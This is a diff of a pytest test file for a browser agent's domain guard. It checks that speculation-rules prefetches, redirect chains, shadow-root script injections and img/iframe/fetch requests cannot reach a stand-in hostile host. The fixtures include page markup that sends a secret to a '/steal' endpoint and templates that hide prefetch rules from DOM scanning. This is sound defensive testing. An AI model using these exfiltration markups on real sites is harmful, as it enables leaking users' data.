@@ -144,11 +144,16 @@ DELIVERIES = {
     "svg-script": "<svg><script type='speculationrules'>{rules}</script></svg>",
     "header": "",  # the Speculation-Rules response header names /rules.json
 }
-# Deliveries the guard records but cannot stop (docs/security.md).
+# Deliveries the remover cannot reach: the document's Connection-Allowlist header stops them.
 UNREACHED = {
+    "open-shadow-root": "<div id=host></div><script>const root = document.getElementById('host')"
+                        ".attachShadow({{mode: 'open'}}); const s = document.createElement('script');"
+                        " s.type = 'speculationrules'; s.text = {rules_js}; root.append(s);</script>",
     "closed-shadow-root": "<div id=host></div><script>const root = document.getElementById('host')"
                           ".attachShadow({{mode: 'closed'}}); const s = document.createElement('script');"
                           " s.type = 'speculationrules'; s.text = {rules_js}; root.append(s);</script>",
+    "declarative-shadow-root": "<div><template shadowrootmode=closed><script type='speculationrules'>{rules}</script>"
+                               "</template></div>",
     "popup-written-by-opener": "<script>const w = window.open(); w.document.write(\"<script type='speculationrules'>\""
                                " + {rules_js} + '</' + 'script>'); w.document.close();</script>",
 }
@@ -197,11 +202,13 @@ async def _speculate(page, url: str, hits: list[str], guard: DomainGuard, *, unt
 
 async def _speculation_guard(page, server, how: str, monkeypatch) -> DomainGuard:
     if how == "control-without-remover":
-        # The guard as it was before the remover (routes, browser-level interception, prerendering
-        # off): the control that shows none of those stops the prefetch.
-        from stagehand_py.agent import _domains  # the guard's own names for the remover and the header
+        # The guard as it was before the remover and the Connection-Allowlist header (routes,
+        # browser-level interception, prerendering off): the control that shows none of those
+        # stops the prefetch.
+        from stagehand_py.agent import _domains  # the guard's own names for the remover and the headers
         monkeypatch.setattr(_domains, "REMOVER_SOURCE", "")
         monkeypatch.setattr(_domains, "RULES_HEADER", "x-no-such-header")
+        monkeypatch.setattr(_domains, "allowlist_enforced", lambda version: False)
     return await _guard(page, server, "unguarded" if how == "control-unguarded" else "guarded")
 
 
@@ -231,13 +238,18 @@ async def test_a_speculative_prefetch_never_reaches_another_host(page, server, c
 
 
 @pytest.mark.parametrize("how", ["guarded", "control-without-remover"])
+@pytest.mark.parametrize("delivery", ["inline", "closed-shadow-root"])
 async def test_a_prefetch_of_an_allowed_address_redirecting_elsewhere_never_arrives(page, server, cross_server, hostile,
-                                                                                  hops, monkeypatch, how: str) -> None:
+                                                                                  hops, monkeypatch, delivery: str,
+                                                                                  how: str) -> None:
     """The browser follows a prefetch's redirects itself: an allowed address that answers 302 to
     the hostile host is as good as the hostile address (measured: without the remover it arrives
-    and nothing is recorded)."""
+    and nothing is recorded). Rules in a shadow root, which the remover cannot reach: the header
+    carries ``redirects=allow``, yet Chromium does not follow that prefetch's redirect elsewhere
+    (measured: nothing arrives)."""
     rules = json.dumps({"prefetch": [{"source": "list", "urls": [hops["chain"](1, cross_server.url("steal"))]}]})
-    page_html = f"<!doctype html><title>Speculation</title><script type='speculationrules'>{rules}</script>"
+    markup = {**DELIVERIES, **UNREACHED}[delivery].format(rules=rules, rules_js=json.dumps(rules))
+    page_html = f"<!doctype html><title>Speculation</title>{markup}"
     with server.route("/allowed-rules", lambda req: Response.html(page_html)):
         guard = await _speculation_guard(page, server, how, monkeypatch)
         try:
@@ -250,7 +262,8 @@ async def test_a_prefetch_of_an_allowed_address_redirecting_elsewhere_never_arri
             await guard.uninstall()
     if how == "guarded":
         assert hostile == []
-        assert await page.locator("script[type=speculationrules]").count() == 0  # removed, not sent
+        if delivery == "inline":
+            assert await page.locator("script[type=speculationrules]").count() == 0  # removed, not sent
     else:
         assert hostile == ["/steal"]  # the control: the prefetch's redirect reached the hostile host
 
@@ -266,28 +279,148 @@ async def test_the_page_keeps_its_rules_once_the_guard_is_gone(page, server, spe
     assert await page.locator("script[type=speculationrules]").count() == 1
 
 
+@pytest.mark.parametrize("how", ["guarded", "control-without-allowlist-header"])
 @pytest.mark.parametrize("delivery", list(UNREACHED))
-async def test_rules_the_remover_cannot_reach_are_recorded(page, server, cross_server, speculation_site,
-                                                          delivery: str) -> None:
+async def test_rules_the_remover_cannot_reach(page, server, cross_server, speculation_site, monkeypatch, caplog,
+                                              delivery: str, how: str) -> None:
+    """Rules in a shadow root or written by an opener into a new window: the document's
+    ``Connection-Allowlist`` makes the browser refuse the prefetch; the attempt is recorded from
+    the browser's ``Preload`` events either way. The control is the guard on a browser that does
+    not enforce the header (its version check says so): everything else of the guard in place,
+    the prefetch reaches the other host, and a warning says so."""
+    from stagehand_py.agent import _domains
+
     url, hits = speculation_site(delivery)
+    if how != "guarded":
+        monkeypatch.setattr(_domains, "allowlist_enforced", lambda version: False)
     guard = await _guard(page, server, "guarded")
     try:
-        await _speculate(page, url, hits, guard, until_recorded=False)
+        await _speculate(page, url, hits, guard, until_recorded=how == "guarded")
     finally:
         await guard.uninstall()
     recorded = {(b.kind, b.resource_type, b.url) for b in guard.blocked}
     assert ("speculation", "prefetch", cross_server.url("dyn?v=prefetch")) in recorded
+    warned = [r.getMessage() for r in caplog.records if "does not enforce Connection-Allowlist" in r.getMessage()]
+    if how == "guarded":
+        assert hits == []
+        assert warned == []
+    else:
+        assert "/dyn?v=prefetch" in hits  # the control: the browser's own prefetch reached the hostile host
+        assert warned
 
 
-@pytest.mark.parametrize("delivery", list(UNREACHED))
-@pytest.mark.xfail(strict=True, reason="known gap: rules inside a shadow root, or written by an opener into a new "
-                   "window's first document before the guard attaches to it, are out of the remover's reach; the "
-                   "browser's prefetch leaves from its own process (docs/security.md)")
-async def test_rules_the_remover_cannot_reach(page, server, speculation_site, delivery: str) -> None:
-    url, hits = speculation_site(delivery)
+@pytest.mark.parametrize("how", ["guarded", "control-without-allowlist-header"])
+async def test_a_document_reached_through_redirects_gets_the_header_too(page, server, cross_server, speculation_site,
+                                                                       hops, monkeypatch, how: str) -> None:
+    """The route sees only a chain's first hop; the document at its end gets its header from the
+    guard's browser-level interception."""
+    from stagehand_py.agent import _domains
+
+    url, hits = speculation_site("closed-shadow-root")
+    if how != "guarded":
+        monkeypatch.setattr(_domains, "ALLOWLIST_HEADER", "x-no-such-header")
     guard = await _guard(page, server, "guarded")
     try:
-        await _speculate(page, url, hits, guard)
+        await _speculate(page, hops["chain"](2, url), hits, guard, until_recorded=how == "guarded")
     finally:
         await guard.uninstall()
-    assert hits == []
+    assert page.url == url
+    if how == "guarded":
+        assert hits == []
+    else:
+        assert "/dyn?v=prefetch" in hits  # the control: the header renamed, the browser ignores it
+
+
+# An allowlist, and addresses the guard admits or refuses under it, for the header's patterns.
+HEADER_CASES = [
+    (["127.0.0.1:8000"], ["http://127.0.0.1:8000/x?q=1#h", "ws://127.0.0.1:8000/s", "https://127.0.0.1:8000/",
+                          "http://127.0.0.1:8001/", "http://localhost:8000/"]),
+    (["example.com", "*.example.com"], ["http://example.com/", "https://example.com:8443/a", "http://a.b.example.com/",
+                                        "http://example.com.evil.test/", "http://evilexample.com/"]),
+    (["https://*.example.com"], ["https://x.example.com/", "http://x.example.com/", "https://example.com/"]),
+    (["example.com:443"], ["https://example.com/", "wss://example.com/", "http://example.com:443/",
+                           "http://example.com/", "https://example.com:8443/"]),
+    (["http://example.com:80"], ["http://example.com/", "https://example.com:80/", "ws://example.com/"]),
+    (["ex?mple.[a-c]om", "[!x]y.com"], ["http://exbmple.com/", "http://exmple.com/", "http://exbmple.dom/",
+                                        "http://ay.com/", "http://xy.com/"]),
+    (["faß.example"], ["http://xn--fa-hia.example/", "http://fass.example/"]),
+]
+
+
+@pytest.mark.parametrize(("patterns", "urls"), HEADER_CASES, ids=[",".join(p) for p, _ in HEADER_CASES])
+async def test_the_header_admits_exactly_what_the_allowlist_admits(page, server, patterns: list[str],
+                                                                   urls: list[str]) -> None:
+    """Each URL pattern of the header, read by Chromium's own ``URLPattern``, against the guard's
+    own reading of the allowlist."""
+    from stagehand_py.agent._domains import _parse_pattern
+    from stagehand_py.agent._speculation import connection_allowlist
+
+    header = connection_allowlist([_parse_pattern(p) for p in patterns])
+    assert header.startswith("(") and header.endswith(");redirects=allow")
+    items = [json.loads(item) for item in header[1:header.index(");")].replace('" "', '"\n"').split("\n")]
+    await page.goto(server.url("index.html"))
+    browser_admits = await page.evaluate("""([items, urls]) => urls.map(
+        (url) => items.some((item) => new URLPattern(item).test(url)))""", [items, urls])
+    assert browser_admits == [url_allowed(url, patterns) for url in urls]
+    assert any(browser_admits) and not all(browser_admits)  # each case admits some and refuses some
+
+
+def test_control_a_pattern_left_to_url_pattern_defaults_reads_differently() -> None:
+    """Why every pattern names its port and path: the guard admits any port of a host named
+    without one, and an explicit default port for the other schemes too."""
+    from stagehand_py.agent._domains import _parse_pattern
+    from stagehand_py.agent._speculation import connection_allowlist
+
+    assert connection_allowlist([_parse_pattern("example.com")]) == '("*://example.com:*/*");redirects=allow'
+    assert connection_allowlist([_parse_pattern("example.com:443")]) == (
+        '("*://example.com:443/*" "https://example.com/*" "wss://example.com/*");redirects=allow')
+
+
+@pytest.mark.parametrize("version", ["156.0.7632.6", "HeadlessChrome/152.0.1.2", "151.0.7000.1", "", "unknown"])
+def test_the_header_is_used_from_chromium_152(version: str) -> None:
+    from stagehand_py.agent._speculation import allowlist_enforced
+
+    assert allowlist_enforced(version) is version.removeprefix("HeadlessChrome/").startswith(("156", "152"))
+
+
+SECRET = "hunter2 pass!"
+
+
+@pytest.mark.parametrize("how", ["guarded", "control-without-browser-events"])
+async def test_connections_the_browser_refuses_are_recorded(page, server, cross_server, hostile, monkeypatch, caplog,
+                                                            how: str) -> None:
+    """The header refuses a guarded document's connections elsewhere before any route or DevTools
+    interception sees them: the guard records them from the browser's failed-request events, with
+    the URL redacted in its log. The control drops those events: the refusals go unrecorded (the
+    routes never saw them), and the hostile host is still not reached."""
+    from stagehand_py._secrets import redact_text
+
+    steal = cross_server.url("steal?v=" + urllib.parse.quote(SECRET))
+    html = (f"<!doctype html><title>t</title><img src='{steal}&img'><iframe src='{steal}&frame'></iframe>"
+            f"<script>fetch('{steal}&fetch').catch(() => 0);</script>")
+    if how != "guarded":
+        monkeypatch.setattr(DomainGuard, "_on_request_failed", lambda self, request: None)
+        monkeypatch.setattr(DomainGuard, "_on_error_page", lambda self, page, frame: None)
+    guard = DomainGuard([f"127.0.0.1:{server.port}"], main_page=page, redact=lambda t: redact_text(t, {"pw": SECRET}))
+    await guard.install()
+    try:
+        with server.route("/refused", lambda req: Response.html(html)), caplog.at_level("INFO", "stagehand_py"):
+            await page.goto(server.url("refused"))
+            for _ in range(80):
+                if len(guard.blocked) >= 3:
+                    break
+                await page.wait_for_timeout(250)
+            await page.wait_for_timeout(1000)
+    finally:
+        await guard.uninstall()
+    assert hostile == []
+    recorded = {(b.kind, b.resource_type, b.url) for b in guard.blocked}
+    if how == "guarded":
+        assert recorded == {("request", "image", steal + "&img"), ("navigation", "document", steal + "&frame"),
+                            ("request", "fetch", steal + "&fetch")}
+        logged = "\n".join(r.getMessage() for r in caplog.records)
+        assert "allowed_domains: blocked" in logged
+        assert SECRET not in logged and urllib.parse.quote(SECRET) not in logged
+    else:
+        assert recorded == set()  # the control: no route saw them
+
